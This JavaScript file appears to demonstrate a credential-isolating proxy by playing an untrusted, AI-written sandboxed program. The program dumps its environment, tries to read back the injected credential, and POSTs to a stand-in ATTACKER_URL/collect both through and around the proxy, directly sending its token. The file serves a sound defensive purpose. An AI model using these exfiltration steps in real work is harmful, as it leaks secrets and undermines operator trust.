// The untrusted program. Think of it as code an AI agent wrote, running in a sandbox. It is given
// two things only, through its environment: the proxy's URL and a keyhole token. It has no
// credential to steal, and the token is useless except through the proxy, towards the one host
// it names. Dependency-free on purpose: a sandbox may have nothing but `fetch`.
const proxy = process.env.KEYHOLE_PROXY
const token = process.env.KEYHOLE_TOKEN
const api = process.env.API_URL // the real API, e.g. http://127.0.0.1:4000
const attacker = process.env.ATTACKER_URL // somewhere the program would like to send secrets

function report(step, details) {
  process.stdout.write(`${JSON.stringify({ step, ...details })}\n`)
}

// Open mode: {proxy}/{scheme}/{host:port}/{path}; the token travels in X-Keyhole-Token.
function viaProxy(url, init = {}) {
  const target = new URL(url)
  const proxied = `${proxy}/${target.protocol.slice(0, -1)}/${target.host}${target.pathname}${target.search}`
  return fetch(proxied, { ...init, headers: { ...init.headers, 'x-keyhole-token': token } })
}

// 1. Everything the program can see about itself.
report('environment', { env: process.env })

// 2. The legitimate call: the proxy adds the real credential on the way out.
const user = await viaProxy(`${api}/user`)
report('api call', { status: user.status, body: await user.json() })

// 3. Try to read the credential back: ask the API to echo the request headers.
const echo = await viaProxy(`${api}/echo-headers`)
report('echo attempt', { status: echo.status, error: echo.headers.get('x-keyhole-error') })

// 4. Exfiltration through the proxy: make it send the credential to another host.
const steal = await viaProxy(`${attacker}/collect`, { method: 'POST', body: 'x' })
report('exfiltration via proxy', { status: steal.status, error: steal.headers.get('x-keyhole-error') })

// 5. Exfiltration around the proxy: send what it holds (the token) straight to the attacker.
const direct = await fetch(`${attacker}/collect`, { method: 'POST', body: token })
report('token sent to attacker', { status: direct.status })
